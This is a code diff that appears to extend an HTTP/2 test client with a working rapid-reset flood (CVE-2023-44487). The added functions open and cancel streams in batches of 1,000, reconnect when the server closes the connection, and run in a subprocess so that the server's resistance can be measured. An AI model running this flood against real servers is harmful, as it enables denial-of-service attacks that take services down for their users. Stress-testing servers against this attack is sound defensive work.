@@ -6,7 +6,10 @@ decoded, only which stream ended how."""
 
 import socket
 import struct
+import subprocess
+import sys
 import threading
+import time
 
 DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
 END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
@@ -131,3 +134,48 @@ class Connection:
             self.sock.close()
         except OSError:
             pass
+
+
+def rapid_reset(port, seconds, path, body, source="127.0.0.1"):
+    """HTTP/2 rapid reset (CVE-2023-44487): HEADERS + DATA + RST_STREAM
+    (CANCEL) of calls to `path`, 1,000 streams a write, for `seconds`;
+    reconnects whenever the server closes the connection. Returns (streams
+    sent, connections the server closed)."""
+    deadline = time.monotonic() + seconds
+    sent = 0
+    closed = 0
+    connection = Connection(port, source=source)
+    stream = 1
+    while time.monotonic() < deadline:
+        batch = b"".join(call_frames(stream + 2 * i, path, body, reset=True) for i in range(1000))
+        if connection.closed.is_set() or not connection.send(batch):
+            closed += 1
+            connection.close()
+            connection = Connection(port, source=source)
+            stream = 1
+            continue
+        sent += 1000
+        stream += 2000
+        if stream > 2**31 - 4000:
+            connection.close()
+            connection = Connection(port, source=source)
+            stream = 1
+    connection.close()
+    return sent, closed
+
+
+def rapid_reset_elsewhere(port, seconds, path, body, source="127.0.0.1"):
+    """rapid_reset in a process of its own, so that the flood loop does not
+    hold the caller's interpreter lock: a probe client in the calling process
+    then measures the server, not its own starved thread."""
+    result = subprocess.run(
+        [sys.executable, __file__, "rapid-reset", str(port), str(seconds), path.hex(), body.hex(),
+         source], capture_output=True, text=True, timeout=seconds + 60, check=True)
+    sent, closed = result.stdout.split()
+    return int(sent), int(closed)
+
+
+if __name__ == "__main__" and sys.argv[1:2] == ["rapid-reset"]:
+    _port, _seconds, _path, _body, _source = sys.argv[2:7]
+    print(*rapid_reset(int(_port), float(_seconds), bytes.fromhex(_path), bytes.fromhex(_body),
+                       _source))
